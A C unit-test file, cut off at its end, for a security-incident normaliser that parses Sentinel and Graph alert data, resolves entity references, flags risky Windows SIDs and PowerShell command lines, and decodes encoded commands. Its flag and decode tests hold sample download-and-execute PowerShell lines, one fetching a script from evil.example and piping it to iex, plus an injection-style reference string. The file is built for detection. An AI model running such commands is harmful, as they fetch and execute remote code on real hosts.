/*
 * test_incident: lib/incident, the normaliser and the Entities resolver.
 * References nested and inlined, shared between alerts, dangling, cyclic
 * and malformed; the entity merge rules; the flags; CSV, times, durations;
 * each export form; and a bounded run of mutated input that must never
 * crash (the sanitizer build makes that a real check).
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "incident.h"
#include "isotime.h"
#include "jsonx.h"
#include "tap.h"

/* --- helpers ------------------------------------------------------------ */

static json_t *
parse(const char *s)
{
	json_error_t e;
	json_t *v = json_loads(s, 0, &e);

	if (v == NULL)
		printf("# bad test JSON: %s: %s\n", e.text, s);
	return v;
}

/* The first entity of kind whose field key equals value (or any when
 * key is NULL).  Borrowed. */
static json_t *
find_entity(const json_t *ents, const char *kind, const char *key,
    const char *value)
{
	const json_t *e;
	size_t i;

	for (i = 0; i < json_array_size(ents); i++) {
		e = json_array_get(ents, i);
		if (strcmp(jx_str(e, "kind"), kind) != 0)
			continue;
		if (key == NULL || (jx_str(e, key) != NULL &&
		    strcmp(jx_str(e, key), value) == 0))
			return (json_t *)e;
	}
	return NULL;
}

static size_t
count_kind(const json_t *ents, const char *kind)
{
	size_t i, n = 0;

	for (i = 0; i < json_array_size(ents); i++)
		if (strcmp(jx_str(json_array_get(ents, i), "kind"), kind) == 0)
			n++;
	return n;
}

/* The flags of an entity joined with commas (static buffer). */
static const char *
flags_of(const json_t *e)
{
	static char out[256];
	const json_t *f = json_object_get(e, "flags");
	size_t i;

	out[0] = '\0';
	for (i = 0; i < json_array_size(f); i++) {
		if (i > 0)
			strcat(out, ",");
		strcat(out, json_string_value(json_array_get(f, i)));
	}
	return out;
}

static int
warned(const json_t *warnings, const char *part)
{
	size_t i;

	for (i = 0; i < json_array_size(warnings); i++)
		if (strstr(json_string_value(json_array_get(warnings, i)),
		    part) != NULL)
			return 1;
	return 0;
}

/* --- the resolver ------------------------------------------------------- */

/* The example of azure-apis.md C.3, as Sentinel writes it. */
static const char c3[] =
"[{\"$id\":\"2\",\"HostName\":\"alert-windows\",\"OSFamily\":\"Windows\","
"\"OSVersion\":\"1809\",\"Type\":\"host\",\"MdatpDeviceId\":\"4f22aa\","
"\"FQDN\":\"alert-windows\"},"
"{\"$id\":\"3\",\"Name\":\"defenderadm\",\"NTDomain\":\"alert-windows\","
"\"Sid\":\"S-1-5-21-1-2-3-1000\",\"IsDomainJoined\":true,\"Type\":\"account\"},"
"{\"$id\":\"4\",\"ProcessId\":\"7908\",\"CommandLine\":\"powershell.exe -NoEx"
"it\","
"\"ElevationToken\":\"Full\",\"CreationTimeUtc\":\"2023-04-18T13:10:09.073454"
"5Z\","
"\"ImageFile\":{\"$id\":\"5\",\"Directory\":\"C:\\\\Windows\\\\System32\\\\"
"WindowsPowerShell\\\\v1.0\",\"Name\":\"powershell.exe\",\"FileHashes\":[{\"$"
"id\":"
"\"6\",\"Algorithm\":\"SHA256\",\"Value\":\"DE96A6E69944335375DC1AC2383360668"
"89D"
"9FFC7D73628EF4FE1B1B160AB32C\",\"Type\":\"filehash\"}],\"Type\":\"file\"},"
"\"ParentProcess\":{\"$id\":\"7\",\"ProcessId\":\"2056\",\"Type\":\"process\"},"
"\"Account\":{\"$ref\":\"3\"},\"Host\":{\"$ref\":\"2\"},\"Type\":\"process\"},"
"{\"$ref\":\"5\"},{\"$ref\":\"6\"},{\"$ref\":\"7\"},"
"{\"$id\":\"8\",\"Address\":\"203.0.113.7\",\"Type\":\"ip\"},"
"{\"$id\":\"9\",\"Url\":\"http://198.51.100.9/1.exe\",\"Type\":\"url\"}]";

static void
test_resolve_c3(void)
{
	json_t *w = json_array(), *text = json_string(c3), *r, *p;

	r = incident_entities_resolve(text, w);
	ok(r != NULL, "C.3: the Entities text resolves");
	is_int((long long)json_array_size(r), 8, "C.3: 8 distinct top-level "
	    "entities, refs to nested ones included");
	p = json_array_get(r, 2);
	is_str(jx_path_str(p, "Account.Name"), "defenderadm",
	    "C.3: a nested $ref to an earlier entity is replaced by it");
	is_str(jx_path_str(p, "Host.HostName"), "alert-windows",
	    "C.3: the process's Host is the host");
	is_str(jx_str(json_array_get(r, 3), "Name"), "powershell.exe",
	    "C.3: a top-level $ref to an entity inlined in another resolves");
	is_str(jx_str(json_array_get(r, 4), "Algorithm"), "SHA256",
	    "C.3: a $ref into a nested list resolves");
	is_int((long long)json_array_size(w), 0, "C.3: no warnings");
	json_decref(r);
	json_decref(text);
	json_decref(w);
}

static void
test_resolve_bad_refs(void)
{
	json_t *w = json_array(), *in, *r;

	/* Dangling: nested stays as it was; top-level is dropped. */
	in = parse("[{\"$id\":\"1\",\"Type\":\"account\",\"Name\":\"a\","
	    "\"Host\":{\"$ref\":\"99\"}},{\"$ref\":\"98\"}]");
	r = incident_entities_resolve(in, w);
	is_int((long long)json_array_size(r), 1, "dangling: the top-level "
	    "dangling $ref is dropped");
	is_str(jx_path_str(json_array_get(r, 0), "Host.$ref"), "99",
	    "dangling: a nested dangling $ref is left as it is");
	ok(warned(w, "\"99\" names no entity") && warned(w, "\"98\""),
	    "dangling: both are reported");
	json_decref(r);
	json_decref(in);

	/* A cycle through itself and through another entity. */
	json_array_clear(w);
	in = parse("[{\"$id\":\"2\",\"Type\":\"process\",\"ProcessId\":\"1\","
	    "\"ParentProcess\":{\"$ref\":\"2\"}},"
	    "{\"$id\":\"3\",\"Type\":\"process\",\"ProcessId\":\"3\","
	    "\"ParentProcess\":{\"$id\":\"4\",\"Type\":\"process\","
	    "\"ProcessId\":\"4\",\"ParentProcess\":{\"$ref\":\"3\"}}},"
	    "{\"$ref\":\"4\"}]");
	r = incident_entities_resolve(in, w);
	is_int((long long)json_array_size(r), 3, "cycle: three entities");
	is_str(jx_path_str(json_array_get(r, 0), "ParentProcess.$ref"), "2",
	    "cycle: a self-reference is left unresolved");
	is_str(jx_path_str(json_array_get(r, 2), "ParentProcess.ProcessId"),
	    "3", "cycle: 4's parent 3 resolves once...");
	is_str(jx_path_str(json_array_get(r, 2),
	    "ParentProcess.ParentProcess.ParentProcess.$ref"), "3",
	    "cycle: ...whose inlined parent 4 refers to 3 again: left as a "
	    "$ref");
	ok(warned(w, "cycle"), "cycle: reported");
	json_decref(r);
	json_decref(in);

	/* Malformed references and ids. */
	json_array_clear(w);
	in = parse("[{\"$id\":2,\"Type\":\"host\",\"HostName\":\"h\"},"
	    "{\"$id\":\"3\",\"Type\":\"account\",\"Name\":\"x\","
	    "\"Host\":{\"$ref\":2}},"
	    "{\"$id\":\"4\",\"Type\":\"account\",\"Name\":\"y\","
	    "\"Host\":{\"$ref\":{\"a\":1}}},"
	    "{\"$id\":\"3\",\"Type\":\"account\",\"Name\":\"dup\"},"
	    "\"a string\", 17, null, {\"$ref\":true}]");
	r = incident_entities_resolve(in, w);
	ok(r != NULL, "malformed: still a list");
	is_str(jx_path_str(json_array_get(r, 1), "Host.HostName"), "h",
	    "malformed: numeric $id and $ref are taken as text");
	ok(json_is_object(jx_path(json_array_get(r, 2), "Host.$ref")),
	    "malformed: an object $ref is left as it is");
	is_int((long long)json_array_size(r), 3, "malformed: the duplicate "
	    "$id, the non-objects and the bad top-level $ref are dropped");
	ok(warned(w, "more than once") && warned(w, "not an object") &&
	    warned(w, "not a string or number"), "malformed: each reported");
	json_decref(r);
	json_decref(in);
	json_decref(w);
}

static void
test_resolve_bounded(void)
{
	json_t *w = json_array(), *in = json_array(), *r;
	char id[16], prev[16];
	int i;

	/* Each entity refers to the previous one twice: expanded fully that
	 * is 2^40 copies. */
	json_array_append_new(in, json_pack("{s:s,s:s,s:s}", "$id", "1",
	    "Type", "host", "HostName", "h"));
	for (i = 2; i <= 40; i++) {
		snprintf(id, sizeof(id), "%d", i);
		snprintf(prev, sizeof(prev), "%d", i - 1);
		json_array_append_new(in, json_pack("{s:s,s:s,s:{s:s},s:{s:s}}",
		    "$id", id, "Type", "process", "Account", "$ref", prev,
		    "Host", "$ref", prev));
	}
	r = incident_entities_resolve(in, w);
	ok(r != NULL, "bounded: a doubling chain of references resolves");
	ok(warned(w, "expand too far"), "bounded: and says it stopped "
	    "expanding");
	json_decref(r);
	json_decref(in);

	in = json_string("not json");
	ok(incident_entities_resolve(in, NULL) == NULL, "not JSON text: NULL");
	json_decref(in);
	in = json_integer(42);
	ok(incident_entities_resolve(in, NULL) == NULL, "a number: NULL");
	json_decref(in);
	in = parse("{\"$id\":\"1\",\"Type\":\"ip\",\"Address\":\"10.0.0.1\"}");
	r = incident_entities_resolve(in, NULL);
	is_int((long long)json_array_size(r), 1, "one object: a list of one");
	json_decref(r);
	json_decref(in);
	json_decref(w);
}

/* --- entities ----------------------------------------------------------- */

static void
test_entities_c3(void)
{
	json_t *w = json_array(), *text = json_string(c3), *ents, *e;

	ents = incident_entities(text, "A1", w);
	ok(ents != NULL, "C.3 entities: normalised");
	is_int((long long)json_array_size(ents), 7, "C.3 entities: host, "
	    "account, image file, two processes, ip, url (the hash folded "
	    "into its file, no domain for an IP URL)");
	e = find_entity(ents, "host", "hostname", "alert-windows");
	is_str(jx_str(e, "mde_device_id"), "4f22aa", "host: MDE device id");
	e = find_entity(ents, "process", "command_line",
	    "powershell.exe -NoExit");
	ok(e != NULL, "process: the command line");
	is_int(jx_int(e, "process_id", 0), 7908, "process: id as a number");
	is_str(jx_path_str(e, "image.sha256"), "de96a6e69944335375dc1ac238336"
	    "066889d9ffc7d73628ef4fe1b1b160ab32c", "process: image hash, "
	    "lower case");
	is_int(jx_path(e, "parent.process_id") != NULL ?
	    json_integer_value(jx_path(e, "parent.process_id")) : 0, 2056,
	    "process: parent");
	ok(jx_str(e, "account_id") != NULL && strcmp(jx_str(find_entity(ents,
	    "account", "name", "defenderadm"), "id"), jx_str(e,
	    "account_id")) == 0, "process: account_id names the account");
	is_str(jx_path_str(e, "creation_time"), "2023-04-18T13:10:09.0734545Z",
	    "process: creation time keeps 7 digits");
	e = find_entity(ents, "ip", NULL, NULL);
	is_str(flags_of(e), "private_ip", "ip: documentation range is not "
	    "public");
	is_str(jx_str(e, "range"), "documentation (TEST-NET-3)",
	    "ip: the range says why");
	is_str(jx_path_str(e, "alert_ids[0]"), "A1", "alert ids recorded");
	ok(json_is_array(json_object_get(e, "raw")) &&
	    jx_path_str(e, "raw[0].Address") != NULL, "raw keeps the original");
	is_int((long long)count_kind(ents, "filehash"), 0, "no separate "
	    "filehash");
	json_decref(ents);
	json_decref(text);
	json_decref(w);
}

/* Two SecurityAlert rows naming the same host and account under different
 * $ids, and two accounts of one name on different hosts. */
static void
test_entities_across_alerts(void)
{
	json_t *rows, *out, *inc, *ents, *e;
	json_t *w = json_array();
	char err[256];

	rows = parse("[{\"SystemAlertId\":\"a1\",\"AlertName\":\"one\","
	    "\"Entities\":\"[{\\\"$id\\\":\\\"2\\\",\\\"HostName\\\":\\\"WS1"
	    "\\\","
	    "\\\"Type\\\":\\\"host\\\"},{\\\"$id\\\":\\\"3\\\",\\\"Name\\\":"
	    "\\\"alice\\\",\\\"Sid\\\":\\\"S-1-5-21-9-9-9-1105\\\",\\\"Host\\"
	    "\":"
	    "{\\\"$ref\\\":\\\"2\\\"},\\\"Type\\\":\\\"account\\\"},{\\\"$id"
	    "\\\":"
	    "\\\"4\\\",\\\"Name\\\":\\\"administrator\\\",\\\"Host\\\":"
	    "{\\\"$ref\\\":\\\"2\\\"},\\\"Type\\\":\\\"account\\\"},"
	    "{\\\"$id\\\":\\\"5\\\",\\\"Directory\\\":\\\"C:\\\\\\\\Temp\\\","
	    "\\\"Name\\\":\\\"a.exe\\\",\\\"Type\\\":\\\"file\\\"}]\"},"
	    "{\"SystemAlertId\":\"a2\",\"AlertName\":\"two\","
	    "\"Entities\":[{\"$id\":\"7\",\"HostName\":\"ws1\",\"OSFamily\":"
	    "\"Windows\",\"Type\":\"host\"},{\"$id\":\"8\",\"Name\":\"ALICE\","
	    "\"NTDomain\":\"CORP\",\"Sid\":\"s-1-5-21-9-9-9-1105\",\"Type\":"
	    "\"account\"},{\"$id\":\"9\",\"HostName\":\"WS2\",\"Type\":\"host"
	    "\"},"
	    "{\"$id\":\"10\",\"Name\":\"administrator\",\"Host\":{\"$ref\":\""
	    "9\"},"
	    "\"Type\":\"account\"},{\"$id\":\"11\",\"Directory\":\"c:\\\\temp"
	    "\","
	    "\"Name\":\"A.EXE\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Valu"
	    "e\":"
	    "\"0123456789abcdef0123456789abcdef\",\"Type\":\"filehash\"}],"
	    "\"Type\":\"file\"},{\"$id\":\"12\",\"Directory\":\"c:\\\\other\","
	    "\"Name\":\"b.exe\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Valu"
	    "e\":"
	    "\"0123456789ABCDEF0123456789ABCDEF\",\"Type\":\"filehash\"}],"
	    "\"Type\":\"file\"}]}]");
	out = incident_normalise(rows, "test", w, err, sizeof(err));
	ok(out != NULL && json_array_size(out) == 1, "alerts only: one "
	    "incident");
	inc = json_array_get(out, 0);
	ok(json_is_true(json_object_get(inc, "from_alerts")), "alerts only: "
	    "marked from_alerts");
	ents = json_object_get(inc, "entities");
	is_int((long long)count_kind(ents, "host"), 2, "across alerts: WS1 "
	    "and ws1 are one host, WS2 another");
	e = find_entity(ents, "host", "hostname", "WS1");
	is_int((long long)json_array_size(json_object_get(e, "alert_ids")), 2,
	    "across alerts: the host names both alerts");
	is_str(jx_str(e, "os_family"), "Windows", "across alerts: fields "
	    "merge");
	is_int((long long)json_array_size(json_object_get(e, "raw")), 2,
	    "across alerts: raw keeps both originals");
	e = find_entity(ents, "account", "name", "alice");
	ok(e != NULL && jx_str(e, "nt_domain") != NULL &&
	    strcmp(jx_str(e, "nt_domain"), "CORP") == 0, "across alerts: one "
	    "alice by SID (any case), fields merged");
	is_int((long long)count_kind(ents, "account"), 3, "across alerts: "
	    "administrator on WS1 and on WS2 are two accounts");
	is_int((long long)count_kind(ents, "file"), 2, "files: the same path "
	    "in another case is one file; the same hash elsewhere is "
	    "another");
	e = find_entity(ents, "file", "name", "a.exe");
	is_str(jx_str(e, "md5"), "0123456789abcdef0123456789abcdef",
	    "files: the hash learnt from the second alert");
	is_str(jx_path_str(inc, "alerts[1].name"), "two", "alerts in order");
	is_int((long long)json_array_size(jx_path(inc, "alerts[1].entity_ids")),
	    6, "alert two names its six entities");
	json_decref(out);
	json_decref(rows);
	json_decref(w);
}

/* The REST dialect: PascalCase kinds, camelCase properties, links by id,
 * including a link to itself. */
static void
test_entities_rest(void)
{
	json_t *in, *out, *ents, *e;
	char err[256];

	in = parse("{\"name\":\"3f2a0c4e-6a1b-4c55-9b1e-2d1f0e7c9a11\","
	    "\"properties\":{\"incidentNumber\":7,\"title\":\"t\","
	    "\"severity\":\"low\",\"status\":\"active\"},"
	    "\"entities\":{\"entities\":["
	    "{\"id\":\"/e/h\",\"kind\":\"Host\",\"properties\":{\"hostName\":"
	    "\"srv\",\"dnsDomain\":\"corp.local\"}},"
	    "{\"id\":\"/e/p\",\"kind\":\"Process\",\"properties\":{\"processI"
	    "d\":"
	    "\"42\",\"commandLine\":\"x\",\"hostEntityId\":\"/e/h\","
	    "\"parentProcessEntityId\":\"/e/p\",\"imageFileEntityId\":\"/e/f"
	    "\"}},"
	    "{\"id\":\"/e/f\",\"kind\":\"File\",\"properties\":{\"fileName\":"
	    "\"x.exe\",\"directory\":\"/usr/bin\",\"fileHashEntityIds\":"
	    "[\"/e/fh\",\"/e/missing\"]}},"
	    "{\"id\":\"/e/fh\",\"kind\":\"FileHash\",\"properties\":{\"algori"
	    "thm\":"
	    "\"SHA1\",\"hashValue\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "A\"}},"
	    "{\"id\":\"/e/d\",\"kind\":\"DnsResolution\",\"properties\":"
	    "{\"domainName\":\"Evil.Example.\"}},"
	    "{\"id\":\"/e/m\",\"kind\":\"Malware\",\"properties\":{\"malwareN"
	    "ame\":"
	    "\"x\"}}, 5, {\"kind\":\"Ip\"}]}}");
	out = incident_normalise(in, NULL, NULL, err, sizeof(err));
	ents = json_object_get(json_array_get(out, 0), "entities");
	is_str(jx_path_str(json_array_get(out, 0), "status"), "Active",
	    "REST: status in Sentinel's spelling");
	e = find_entity(ents, "host", "hostname", "srv");
	is_str(jx_str(e, "fqdn"), "srv.corp.local", "REST: fqdn from name and "
	    "domain");
	e = find_entity(ents, "process", NULL, NULL);
	is_int(jx_int(e, "process_id", 0), 42, "REST: process");
	ok(jx_str(e, "host_id") != NULL, "REST: linked by hostEntityId");
	ok(json_object_get(e, "parent") == NULL, "REST: a process that is its "
	    "own parent does not loop");
	is_str(jx_path_str(e, "image.path"), "/usr/bin/x.exe", "REST: image "
	    "path with the directory's separator");
	is_str(jx_path_str(e, "image.sha1"), "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	    "aaaaaaaa", "REST: hash from fileHashEntityIds");
	is_str(jx_str(find_entity(ents, "domain", NULL, NULL), "domain"),
	    "evil.example", "REST: DnsResolution is a domain, normalised");
	is_str(jx_str(find_entity(ents, "other", NULL, NULL), "original_type"),
	    "Malware", "REST: unknown kinds are kept as other");
	json_decref(out);
	json_decref(in);
}

static void
test_entities_graph(void)
{
	json_t *in, *out, *inc, *ents, *e;
	char err[256];

	in = parse("{\"value\":[{\"@odata.type\":\"#microsoft.graph.security."
	    "incident\",\"id\":\"12\",\"displayName\":\"g\",\"severity\":"
	    "\"informational\",\"status\":\"inProgress\",\"assignedTo\":"
	    "\"kai@contoso.com\",\"classification\":\"truePositive\","
	    "\"determination\":\"malware\",\"alerts\":[{\"id\":\"da1\","
	    "\"title\":\"x\",\"status\":\"inProgress\",\"severity\":\"unknown"
	    "\","
	    "\"category\":\"DefenseEvasion\",\"mitreTechniques\":[\"T1564.001"
	    "\"],"
	    "\"evidence\":[{\"@odata.type\":\"#microsoft.graph.security."
	    "processEvidence\",\"processId\":4780,\"processCommandLine\":"
	    "\"\\\"MsSense.exe\\\"\",\"mdeDeviceId\":\"DEV1\",\"userAccount\":"
	    "{\"accountName\":\"SYSTEM\",\"domainName\":\"NT AUTHORITY\","
	    "\"userSid\":\"S-1-5-18\"},\"imageFile\":{\"fileName\":"
	    "\"MsSense.exe\",\"filePath\":\"C:\\\\Program Files\\\\temp\","
	    "\"sha1\":\"ff\"}},{\"@odata.type\":\"#microsoft.graph.security."
	    "deviceEvidence\",\"deviceDnsName\":\"tempdns.contoso.com\","
	    "\"mdeDeviceId\":\"dev1\"},{\"@odata.type\":\"#microsoft.graph."
	    "security.mailboxEvidence\",\"primaryAddress\":\"a@b.example\","
	    "\"userAccount\":{\"userPrincipalName\":\"a@b.example\"}},"
	    "{\"@odata.type\":\"#microsoft.graph.security.amazonResourceEvide"
	    "nce"
	    "\",\"amazonResourceId\":\"x\"},{\"no\":\"type\"}, 3]}]},"
	    "{\"id\":\"13\",\"displayName\":\"h\",\"status\":\"resolved\","
	    "\"lastUpdateDateTime\":\"2024-01-01T00:00:00Z\"}]}");
	out = incident_normalise(in, "graph", NULL, err, sizeof(err));
	is_int((long long)json_array_size(out), 2, "Graph list: two incidents");
	inc = json_array_get(out, 0);
	is_str(jx_str(inc, "status"), "Active", "Graph: inProgress is Active");
	is_str(jx_str(json_array_get(out, 1), "status"), "Closed",
	    "Graph: resolved is Closed");
	is_str(jx_str(inc, "severity"), "Informational", "Graph: severity");
	is_str(jx_path_str(inc, "owner.upn"), "kai@contoso.com",
	    "Graph: assignedTo is the owner");
	is_str(jx_str(inc, "classification"), "TruePositive",
	    "Graph: classification");
	is_str(jx_str(inc, "classification_reason"), "Malware",
	    "Graph: determination");
	is_str(jx_path_str(inc, "alerts[0].status"), "InProgress",
	    "Graph: alert status");
	ok(json_is_null(jx_path(inc, "alerts[0].severity")),
	    "Graph: unknown severity is null");
	is_str(jx_path_str(inc, "tactics[0]"), "DefenseEvasion",
	    "Graph: the alert's category is its tactic");
	ents = json_object_get(inc, "entities");
	e = find_entity(ents, "process", NULL, NULL);
	ok(e != NULL && jx_str(e, "host_id") != NULL && strcmp(jx_str(e,
	    "host_id"), jx_str(find_entity(ents, "host", NULL, NULL),
	    "id")) == 0, "Graph: the process's device found by mdeDeviceId");
	is_str(jx_str(find_entity(ents, "host", NULL, NULL), "hostname"),
	    "tempdns", "Graph: hostname from the DNS name");
	is_str(flags_of(find_entity(ents, "account", NULL, NULL)),
	    "local_system", "Graph: the process's user, flagged SYSTEM");
	is_str(jx_str(find_entity(ents, "mailbox", NULL, NULL), "upn"),
	    "a@b.example", "Graph: mailbox");
	is_str(jx_str(find_entity(ents, "other", NULL, NULL), "original_type"),
	    "amazonResourceEvidence", "Graph: unknown evidence kept as other");
	json_decref(out);
	json_decref(in);
}

/* --- flags -------------------------------------------------------------- */

static void
test_sid_flags(void)
{
	static const struct {
		const char *sid, *flag;
	} t[] = {
		{ "S-1-5-21-3512849187-2847361925-1846301427-500", "rid500" },
		{ "S-1-5-21-1-2-3-512", "domain_admins" },
		{ "S-1-5-21-1-2-3-519", "enterprise_admins" },
		{ "S-1-5-21-1-2-3-502", "krbtgt" },
		{ "S-1-5-18", "local_system" },
		{ "s-1-5-18 ", "local_system" },
		{ "S-1-5-19", "local_service" },
		{ "S-1-5-20", "network_service" },
		{ "S-1-5-32-544", "builtin_administrators" },
		{ "S-1-5-21-1-2-3-1500", NULL },
		{ "S-1-5-21-1-2-3-5000", NULL },
		{ "S-1-5-21-x-2-3-500", NULL },
		{ "S-1-5-32-500", NULL },
		{ "-500", NULL },
		{ "", NULL },
		{ "S-1-5-181", NULL },
	};
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		is_str(incident_sid_flag(t[i].sid), t[i].flag, t[i].sid);
}

static void
test_cmdline_flags(void)
{
	static const struct {
		const char *cmd, *image, *flags;
	} t[] = {
		{ "powershell -enc SQBFAFgA", NULL, "encoded_command" },
		{ "powershell.exe -EncodedCommand ZQBjAGgAbwA=", NULL,
		  "encoded_command" },
		{ "pwsh -e abc", NULL, "encoded_command" },
		{ "PowerShell /ec abc", NULL, "encoded_command" },
		{ "powershell \xe2\x80\x93" "enc abc", NULL,
		  "encoded_command" },
		{ "-enc abc", "powershell.exe", "encoded_command" },
		{ "cmd.exe /c echo -enc abc", NULL, "" },
		{ "powershell -ExecutionPolicy Bypass -File x.ps1", NULL,
		  "execution_policy_bypass" },
		{ "powershell -ep bypass", NULL, "execution_policy_bypass" },
		{ "powershell -exec \"Unrestricted\" -f a.ps1", NULL,
		  "execution_policy_bypass" },
		{ "powershell -ExecutionPolicy RemoteSigned", NULL, "" },
		{ "powershell Set-ExecutionPolicy Bypass -Scope Process", NULL,
		  "execution_policy_bypass" },
		{ "powershell -w hidden -nop -c \"iex(New-Object Net.WebClien"
		    "t)."
		  "DownloadString('http://x')\"", NULL,
		  "hidden_window,download_cradle" },
		{ "certutil.exe -urlcache -split -f http://x/a.exe a.exe", NULL,
		  "download_cradle" },
		{ "bitsadmin /transfer j http://x/a c:\\a", NULL,
		  "download_cradle" },
		{ "curl.exe https://x.example/a -o a", NULL,
		  "download_cradle" },
		{ "curl --version", NULL, "" },
		{ "notepad.exe c:\\curl\\readme.txt", NULL, "" },
		{ "notepad.exe", "powershell.exe", "" },
		{ "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "
		  "\"Invoke-WebRequest -Uri 'https://sacyberrange00.blob.core."
		  "windows.net/vm-applications/7z2408-x64.exe' -OutFile "
		  "C:\\ProgramData\\7z2408-x64.exe; Start-Process "
		  "'C:\\programdata\\7z2408-x64.exe' -ArgumentList '/S' -Wait"
		  "\"",
		  NULL, "execution_policy_bypass,download_cradle" },
	};
	json_t *f, *e;
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		f = json_array();
		incident_cmdline_flags(t[i].cmd, t[i].image, f);
		e = json_pack("{s:O}", "flags", f);
		is_str(flags_of(e), t[i].flags, t[i].cmd);
		json_decref(e);
		json_decref(f);
	}
}

static void
test_decode(void)
{
	char *s;

	s = incident_decode_command("powershell.exe -nop -enc "
	    "ZQBjAGgAbwAgAGgAaQA=");
	is_str(s, "echo hi", "decode: -enc base64 of UTF-16LE");
	free(s);
	s = incident_decode_command("powershell \xe2\x80\x94" "EncodedCommand "
	    "\"VwByAGkAdABlAC0ASABvAHMAdAAgACIAcAB3AG4AZQBkACIAOwAgAGkAdwBy"
	    "ACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAHgALgBw"
	    "AHMAMQAgAHwAIABpAGUAeAA=\"");
	is_str(s, "Write-Host \"pwned\"; iwr http://evil.example/x.ps1 | iex",
	    "decode: after a Unicode dash, in quotes");
	free(s);
	s = incident_decode_command("powershell -enc aGVsbG8=");
	ok(s == NULL, "decode: base64 that is not UTF-16 text is not decoded");
	free(s);
	s = incident_decode_command("powershell -enc !!!");
	ok(s == NULL, "decode: not base64");
	free(s);
	s = incident_decode_command("cmd /c -enc ZQBjAGgAbwAgAGgAaQA=");
	ok(s == NULL, "decode: only for PowerShell");
	free(s);
}

/* --- text --------------------------------------------------------------- */

static void
test_csv(void)
{
	static const char csv[] = "\xef\xbb\xbf" "a,b,\"c d\"\r\n"
	    "1,\"x, \"\"y\"\"\",\"line1\r\nline2\"\r\n"
	    "\r\n"
	    "2,,\n";
	char err[256];
	json_t *r;

	r = incident_csv_parse(csv, sizeof(csv) - 1, "t.csv", err,
	    sizeof(err));
	ok(r != NULL, "csv: parses");
	is_int((long long)json_array_size(r), 2, "csv: two rows, the blank "
	    "line skipped");
	is_str(jx_path_str(r, "[0].b"), "x, \"y\"", "csv: quotes and commas");
	is_str(jx_str(json_array_get(r, 0), "c d"), "line1\r\nline2",
	    "csv: a line break inside quotes");
	is_str(jx_path_str(r, "[1].b"), "", "csv: empty cells");
	json_decref(r);
	r = incident_csv_parse("a,b\n1,2,3\n", 10, "t.csv", err, sizeof(err));
	ok(r == NULL, "csv: a ragged row is an error");
	is_str(err, "t.csv:2: expected 2 fields, found 3", "csv: with its lin"
	    "e");
	r = incident_csv_parse("a\n\"x\ny\nz", 9, "t.csv", err, sizeof(err));
	ok(r == NULL && strstr(err, "not closed") != NULL,
	    "csv: an unclosed quote is an error");
	r = incident_parse_text("a,b\n\xff\xfe,2\n", 9, "t.csv", err,
	    sizeof(err));
	is_str(jx_path_str(r, "[0].a"), "\xef\xbf\xbd\xef\xbf\xbd",
	    "text: invalid UTF-8 becomes U+FFFD");
	json_decref(r);
	r = incident_parse_text("{\"a\":1}\n{\"a\":2}\n[3]", 19, "x", err,
	    sizeof(err));
	is_int((long long)json_array_size(r), 3, "text: NDJSON is a list");
	json_decref(r);
	r = incident_parse_text("{\"a\":1}\n{\"a\":\n", 14, "x", err,
	    sizeof(err));
	ok(r == NULL && strncmp(err, "x:2:", 4) == 0, "text: NDJSON error "
	    "on its line (%s)", err);
}

static void
test_times(void)
{
	char out[48];
	int64_t t;

	ok(incident_time_parse("4/19/2021, 12:13:19.483 PM", &t) == 0 &&
	    strcmp(iso_format(t, out, sizeof(out), -1),
	    "2021-04-19T12:13:19.483Z") == 0, "time: portal, noon");
	ok(incident_time_parse("11/28/2026, 12:05:00.000 AM", &t) == 0 &&
	    strcmp(iso_format(t, out, sizeof(out), -1),
	    "2026-11-28T00:05:00Z") == 0, "time: portal, after midnight");
	ok(incident_time_parse("1/2/2020 11:59 PM", &t) == 0 &&
	    strcmp(iso_format(t, out, sizeof(out), -1),
	    "2020-01-02T23:59:00Z") == 0, "time: portal, no comma or seconds");
	ok(incident_time_parse("2019-01-11 06:31:42", &t) == 0 &&
	    strcmp(iso_format(t, out, sizeof(out), -1),
	    "2019-01-11T06:31:42Z") == 0, "time: ISO with a space");
	ok(incident_time_parse("13/1/2020, 1:00 PM", &t) != 0, "time: month "
	    "13");
	ok(incident_time_parse("1/1/2020, 13:00 PM", &t) != 0, "time: 13 PM");
	ok(incident_time_parse("yesterday", &t) != 0, "time: words");

	ok(incident_duration_parse("90d", &t) == 0 && t == 90 * TICKS_PER_DAY,
	    "duration: 90d");
	ok(incident_duration_parse("PT36H", &t) == 0 &&
	    t == 36 * 3600 * TICKS_PER_SEC, "duration: PT36H");
	ok(incident_duration_parse("0d", &t) != 0, "duration: zero refused");
	ok(incident_duration_parse("-1d", &t) != 0, "duration: negative "
	    "refused");
	ok(incident_duration_parse("7x", &t) != 0, "duration: unit");
	ok(incident_duration_parse("7d ", &t) != 0, "duration: trailing junk");
	incident_duration_kql(36 * 3600 * TICKS_PER_SEC, out, sizeof(out));
	is_str(out, "36h", "kql timespan: hours");
	incident_duration_kql(14 * TICKS_PER_DAY, out, sizeof(out));
	is_str(out, "14d", "kql timespan: days");
	incident_duration_kql(90 * TICKS_PER_SEC, out, sizeof(out));
	is_str(out, "90s", "kql timespan: seconds");
}

static void
test_refs(void)
{
	long long n = 0;

	is_int(incident_ref_parse("357335", &n), 1, "ref: a number");
	is_int(n, 357335, "ref: its value");
	is_int(incident_ref_parse("3F2A0C4E-6a1b-4c55-9b1e-2d1f0e7c9a11", NULL),
	    2, "ref: a GUID");
	is_int(incident_ref_parse("357335 or 1==1", NULL), 0, "ref: text");
	is_int(incident_ref_parse("3f2a0c4e-6a1b-4c55-9b1e-2d1f0e7c9a1\"",
	    NULL), 0, "ref: a GUID with a quote");
	is_int(incident_ref_parse("{3f2a0c4e-6a1b-4c55-9b1e-2d1f0e7c9a11}",
	    NULL), 0, "ref: braces");
	is_int(incident_ref_parse("1234567890123456789", NULL), 0,
	    "ref: 19 digits");
	is_int(incident_ref_parse("", NULL), 0, "ref: empty");
}

/* --- rows, the queue ---------------------------------------------------- */

static void
test_rows(void)
{
